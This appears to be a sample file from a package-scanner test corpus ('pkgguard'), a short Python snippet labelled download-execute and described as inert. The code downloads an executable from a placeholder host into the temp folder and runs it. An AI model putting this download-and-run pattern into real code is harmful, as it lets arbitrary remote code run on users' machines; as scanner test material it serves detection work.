# pkgguard corpus 149 (download-execute), modelled on [stealer-profile]; inert, never run.
import os
import tempfile
import urllib.request

dest = os.path.join(tempfile.gettempdir(), "setup_helper.exe")
urllib.request.urlretrieve("https://cdn.example/files/setup_helper.exe", dest)
os.startfile(dest)
